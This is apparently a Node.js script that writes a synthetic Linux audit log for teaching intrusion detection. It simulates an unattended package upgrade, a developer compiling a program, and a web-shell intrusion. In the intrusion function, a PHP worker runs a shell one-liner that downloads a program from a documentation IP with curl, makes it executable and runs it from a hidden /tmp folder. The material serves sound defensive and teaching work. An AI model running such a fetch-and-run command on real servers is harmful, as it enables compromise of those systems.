// The story of audit.log: one intrusion and two everyday events that look like it.
// Writes the log again: node examples/intrusion/scene.mjs > examples/intrusion/audit.log
import { pathToFileURL } from "node:url";
import { AuditWriter } from "./audit-writer.mjs";

const DASH = { file: "/bin/sh", inode: 262_212 };
const FROM = "198.51.100.20"; // a documentation address, RFC 5737; so is the other one below
const PACKAGE = "/var/cache/apt/archives/cowtime_1.4-2_amd64.deb";

/** Files of the scene that a collection brings back, with the mode that they had at the end. */
export const ARTIFACTS = {
  agent: { path: "/tmp/.cache-x/agent", inode: 131_079 },
  packaged: { path: "/usr/bin/cowtime", inode: 271_502 },
  built: { path: "/home/dev/src/hello/hello", inode: 524_310 },
};

/** The whole log as text, the same every time. */
export function audit() {
  const log = new AuditWriter({
    startsAt: Date.UTC(2026, 10, 20, 6, 25, 1, 312),
    host: "web-3",
    serial: 80_412,
    nextPid: 3301,
    names: { 0: "root", 33: "www-data", 1000: "dev" },
  });
  const php = workerStarts(log);
  log.later(0.02, 9);
  morningUpgrade(log);
  log.later(3.7, 1_204);
  developerBuilds(log);
  log.later(3.9, 988);
  intrusion(log, php);
  return log.text;
}

/** The web server's PHP begins a new worker, as it does after some hundred requests. */
function workerStarts(log) {
  const master = log.running({ pid: 901, ppid: 1, uid: 0, exe: "/usr/sbin/php-fpm8.2" });
  return master.fork().become({ uid: 33, gid: 33, cwd: "/var/www/html" });
}

/** Benign twin: an unattended upgrade unpacks a stripped program. */
function morningUpgrade(log) {
  const systemd = log.running({ pid: 1, ppid: 0, uid: 0, exe: "/usr/lib/systemd/systemd" });
  const daily = systemd.fork();
  daily.exec("/usr/bin/dash", ["/bin/sh", "/usr/lib/apt/apt.systemd.daily", "install"], {
    file: "/usr/lib/apt/apt.systemd.daily",
    inode: 266_010,
    interpreter: { path: "/bin/sh", inode: DASH.inode },
  });
  log.wait(220);
  const upgrade = daily.fork("vfork");
  upgrade.exec("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/unattended-upgrade"], {
    file: "/usr/bin/unattended-upgrade",
    inode: 266_344,
    interpreter: { path: "/usr/bin/python3", inode: 262_930 },
  });
  log.wait(4_180);
  const dpkg = upgrade.fork();
  dpkg.exec("/usr/bin/dpkg", ["/usr/bin/dpkg", "--status-fd", "12", "--unpack", "--auto-deconfigure", PACKAGE], {
    inode: 262_301,
  });
  log.wait(60);
  const reader = dpkg.fork();
  reader.exec("/usr/bin/dpkg-deb", ["dpkg-deb", "--fsys-tarfile", PACKAGE], { inode: 262_302 });
  log.wait(8);
  const { path, inode } = ARTIFACTS.packaged;
  dpkg.create(`${path}.dpkg-new`, { inode, mode: "0100000", flags: "c1" });
  dpkg.fchmod({ inode, before: "0100000", after: 0o755 });
  log.wait(4);
  reader.exit();
  log.wait(12);
  dpkg.rename(`${path}.dpkg-new`, path, { inode, mode: "0100755" });
  log.wait(31);
  dpkg.exit();
  log.wait(910);
  upgrade.exit();
  daily.exit();
}

/** Benign twin: a developer at a terminal builds a stripped program and runs it. */
function developerBuilds(log) {
  const sshd = log.running({ pid: 702, ppid: 1, uid: 0, exe: "/usr/sbin/sshd" });
  const session = sshd.fork();
  session.exec("/usr/sbin/sshd", ["/usr/sbin/sshd", "-D", "-R"], { inode: 264_120 });
  log.wait(412);
  const pam = (exe) =>
    `grantors=pam_permit acct="dev" exe="${exe}" hostname=${FROM} addr=${FROM} terminal=ssh res=success`;
  session.report("USER_ACCT", "PAM:accounting", pam);
  session.login(1000, 12);
  session.report("USER_START", "PAM:session_open", pam);
  const shellParent = session.fork();
  shellParent.become({ uid: 1000, gid: 1000 });
  session.report(
    "USER_LOGIN",
    "login",
    (exe) => `id=1000 exe="${exe}" hostname=${FROM} addr=${FROM} terminal=/dev/pts/0 res=success`,
  );
  const bash = shellParent.fork();
  bash.become({ tty: "pts0", cwd: "/home/dev" });
  bash.exec("/usr/bin/bash", ["-bash"], { file: "/bin/bash", inode: 262_140 });
  log.wait(18_400);

  const folder = "/home/dev/src/hello";
  const make = bash.fork();
  make.become({ cwd: folder });
  make.exec("/usr/bin/make", ["make"], { inode: 263_644 });
  log.wait(9);
  const gcc = make.fork("vfork");
  gcc.exec("/usr/bin/x86_64-linux-gnu-gcc-12", ["gcc", "-O2", "-s", "-o", "hello", "hello.c"], {
    file: "/usr/bin/gcc",
    inode: 263_017,
  });
  const assembly = { inode: 131_102, mode: "0100600" };
  const object = { inode: 131_103, mode: "0100600" };
  gcc.create("/tmp/ccR3vXq1.s", { ...assembly, flags: "c2" });
  const cc1 = gcc.fork("vfork");
  cc1.exec(
    "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
    ["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "hello.c", "-O2", "-o", "/tmp/ccR3vXq1.s"],
    { inode: 270_392 },
  );
  log.wait(41);
  cc1.overwrite("/tmp/ccR3vXq1.s", assembly);
  cc1.exit();
  gcc.create("/tmp/ccW0pPd7.o", { ...object, flags: "c2" });
  const as = gcc.fork("vfork");
  as.exec("/usr/bin/x86_64-linux-gnu-as", ["as", "--64", "-o", "/tmp/ccW0pPd7.o", "/tmp/ccR3vXq1.s"], {
    file: "/usr/bin/as",
    inode: 263_024,
  });
  log.wait(6);
  as.overwrite("/tmp/ccW0pPd7.o", object);
  as.exit();
  const collect = gcc.fork("vfork");
  collect.exec(
    "/usr/lib/gcc/x86_64-linux-gnu/12/collect2",
    ["/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "-pie", "-s", "-o", "hello", "/tmp/ccW0pPd7.o", "-lc"],
    { inode: 270_394 },
  );
  const ld = collect.fork("vfork");
  ld.exec("/usr/bin/x86_64-linux-gnu-ld.bfd", ["/usr/bin/ld", "-pie", "-s", "-o", "hello", "/tmp/ccW0pPd7.o", "-lc"], {
    file: "/usr/bin/ld",
    inode: 263_030,
  });
  log.wait(13);
  const { path, inode } = ARTIFACTS.built;
  ld.create(path, { inode, mode: "0100664", flags: "242" });
  ld.chmod(path, { inode, before: "0100664", after: 0o775 });
  ld.exit();
  collect.exit();
  gcc.unlink("/tmp/ccW0pPd7.o", object);
  gcc.unlink("/tmp/ccR3vXq1.s", assembly);
  gcc.exit();
  make.exit();
  log.wait(3_900);
  const run = bash.fork();
  run.become({ cwd: folder });
  run.exec(path, ["./hello"], { file: "./hello", inode, mode: "0100775", ouid: 1000 });
  run.exit();
  log.wait(44_000);
  bash.exit();
}

/** A request to a PHP page starts a shell, which fetches a program, makes it executable and runs it. */
function intrusion(log, php) {
  const { path, inode } = ARTIFACTS.agent;
  const script = `mkdir -p /tmp/.cache-x; curl -so ${path} http://203.0.113.7/a; chmod 755 ${path}; ${path} &`;
  const sh = php.fork();
  sh.exec("/usr/bin/dash", ["sh", "-c", script], DASH);
  const mkdir = sh.fork("vfork");
  mkdir.exec("/usr/bin/mkdir", ["mkdir", "-p", "/tmp/.cache-x"], { inode: 262_480 });
  log.wait(1);
  mkdir.exit();
  const curl = sh.fork("vfork");
  curl.exec("/usr/bin/curl", ["curl", "-so", path, "http://203.0.113.7/a"], { inode: 262_733 });
  log.wait(188);
  curl.create(path, { inode, mode: "0100644" });
  log.wait(24);
  curl.exit();
  const chmod = sh.fork("vfork");
  chmod.exec("/usr/bin/chmod", ["chmod", "755", path], { inode: 262_444 });
  chmod.chmod(path, { inode, before: "0100644", after: 0o755 });
  log.wait(1);
  chmod.exit();
  const agent = sh.fork();
  log.wait(2);
  agent.exec(path, [path], { inode, ouid: 33 });
  log.wait(1);
  sh.exit();
}

if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href)
  process.stdout.write(audit());
